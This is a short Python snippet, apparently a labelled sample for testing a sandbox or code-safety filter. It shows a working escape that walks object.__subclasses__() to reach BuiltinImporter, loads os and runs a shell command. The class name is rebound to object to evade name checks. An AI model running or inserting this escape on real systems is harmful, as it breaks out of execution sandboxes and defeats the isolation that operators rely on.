# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: own class name rebound to object before __subclasses__()
class Base:
    pass


Base = object
for c in Base.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
